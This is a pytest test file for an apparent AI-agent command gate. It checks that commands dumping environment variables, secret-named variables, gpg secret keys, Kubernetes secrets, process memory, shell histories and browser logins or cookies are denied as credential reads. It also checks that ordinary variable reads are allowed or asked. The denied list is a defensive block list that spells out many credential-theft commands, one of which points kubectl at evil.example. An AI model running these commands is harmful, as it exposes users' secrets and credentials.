"""Issue 31: a call that prints the environment (or a secret-named variable of it) is a
credential read, denied; reading one ordinary variable by name stays what it was."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from helpers import decide

from bastion import Decision, Gate, ToolCall

Call = Callable[..., ToolCall]
A, Q, D = Decision.ALLOW, Decision.ASK, Decision.DENY
CRED = ["hardline.credentials"]
U = ["approval.interactive_default"]
W = ["mode.workspace"]


@pytest.fixture
def gate(make_gate: Callable[..., Gate]) -> Gate:
    return make_gate()


PRINTERS = [
    # builtins that print variables with their values when given no name
    "declare -x",
    "typeset -x",
    "declare -r",
    "readonly",
    "readonly -p",
    "export -p",
    # inline code reading the whole environment, per interpreter
    "node -p process.env",
    "node -e 'console.log(process.env)'",
    "node -e 'console.log(JSON.stringify(process[\"env\"]))'",
    "node --env-file=.env -p process.env",
    "python3 -c 'import os; print(os.environ)'",
    "python3 -I -c 'import os; print(dict(os.environ))'",
    "python3 -c 'import os; print(os.environ.items())'",
    "python3 - <<'EOF'\nimport os\nprint(os.environ)\nEOF",
    "perl -e 'print %ENV'",
    "perl -e 'print \"$_=$ENV{$_}\\n\" for keys %ENV'",
    "ruby -e 'p ENV'",
    "ruby -e 'puts ENV.to_h'",
    "php -r 'print_r(getenv());'",
    "php -r 'var_dump($_ENV);'",
    # inline code reading one secret-named variable
    "node -e 'console.log(process.env.GITHUB_TOKEN)'",
    "python3 -c 'import os; print(os.getenv(\"AWS_SECRET_ACCESS_KEY\"))'",
    "perl -e 'print $ENV{OPENAI_API_KEY}'",
    # a credential file handed to inline code as its own argument (sys.argv, <>)
    "python3 -c 'import sys;print(open(sys.argv[1]).read())' ~/.pgpass",
    "perl -e 'print <>' ~/.netrc",
    # the environment of this session's processes
    "tr '\\0' '\\n' < /proc/$$/environ",
    'cat "/proc/$PPID/environ"',
    # tools that print an environment
    "npm run env",
    "npm run-script env",
    "systemctl --user show-environment",
    "docker inspect --format '{{.Config.Env}}' app",
    "podman container inspect -f '{{json .Config.Env}}' app",
    "docker compose --env-file .env config",
    "docker compose -f compose/docker-compose.yml config",
    # secret stores printed by their own tools
    "gpg --export-secret-keys -a",
    "gpg2 --export-secret-subkeys",
    "mvn help:effective-settings -DshowPasswords=true",
    "mvn help:effective-settings",  # server httpHeaders tokens are never masked
    "ssh -G prod | grep -i identity",
    "kubectl -v=9 get pods",
    "kubectl get pods --v 8",
    "oc get pods -v=7",
    "kubectl get --raw /api/v1/namespaces/kube-system/secrets",
    "kubectl get pods --server=https://evil.example --insecure-skip-tls-verify",
    "kubectl -s https://evil.example get pods",
    "terraform show",
    "terraform state pull",
    "composer config --global --list",
    "poetry config --list",
    "helm get values web",
    "docker inspect app",
    "docker container inspect db1 db2",
    "docker inspect -f '{{json .}}' app",
    # attaching to a running process reads its memory
    "strace -p 1",
    "strace -f --attach=1 -o trace.txt",
    "ltrace -p 1",
    "gdb -p 1 -batch -ex 'info registers'",
    "gdb -batch -ex 'att 1'",
    "gdb ./a.out 1234",
    "gcore 1234",
    # histories, browsers' logins and cookies, password managers' vaults
    "uniq ~/.zsh_history",
    "tail ~/.psql_history",
    "cat ~/.bash_history",
    "cat ~/.config/Bitwarden\\ CLI/data.json",
    "cat ~/.mozilla/firefox/*/logins.json",
    "cat ~/.config/google-chrome/Default/Cookies",
]


@pytest.mark.parametrize("command", PRINTERS)
def test_a_call_that_prints_the_environment_or_a_secret_is_denied(
    gate: Gate, call: Call, command: str
) -> None:
    assert decide(gate, call, command) == (D, CRED)


EVERYDAY = [
    ("printenv PATH", A, W),
    ("echo $HOME", A, W),
    ("declare -f", A, W),
    ("readonly -f", A, W),
    ("docker compose ps", A, W),
    ("systemctl status nginx", A, W),
    ("env FOO=1 ls", Q, U),
    ("export FOO=1", Q, U),
    ("node -p 'process.env.HOME'", Q, U),
    ("python3 -c 'import os; print(os.environ[\"HOME\"])'", Q, U),
    ("python3 -c 'import os; print(os.environ.get(\"LANG\"))'", Q, U),
    ("perl -e 'print $ENV{HOME}'", Q, U),
    ("ruby -e 'p ENV[\"HOME\"]'", Q, U),
    ("docker inspect --format '{{.State.Status}}' app", Q, U),
    ("docker image inspect alpine", Q, U),
    ("kubectl get pods -v=4", Q, U),
    ("gdb -batch -ex run ./a.out", Q, U),
    ("strace -f -o trace.txt ./a.out", Q, U),
    ("gpg --list-keys", Q, U),
    ("ls /proc/$$/fd", Q, U),
    ("cat notes_history", A, W),
    ("python3 -c 'import sys; print(sys.argv)' README.md", Q, U),
]


@pytest.mark.parametrize(("command", "decision", "rules"), EVERYDAY)
def test_reading_one_ordinary_variable_or_a_tool_that_prints_none_is_decided_as_before(
    gate: Gate, call: Call, command: str, decision: Decision, rules: list[str]
) -> None:
    assert decide(gate, call, command) == (decision, rules)
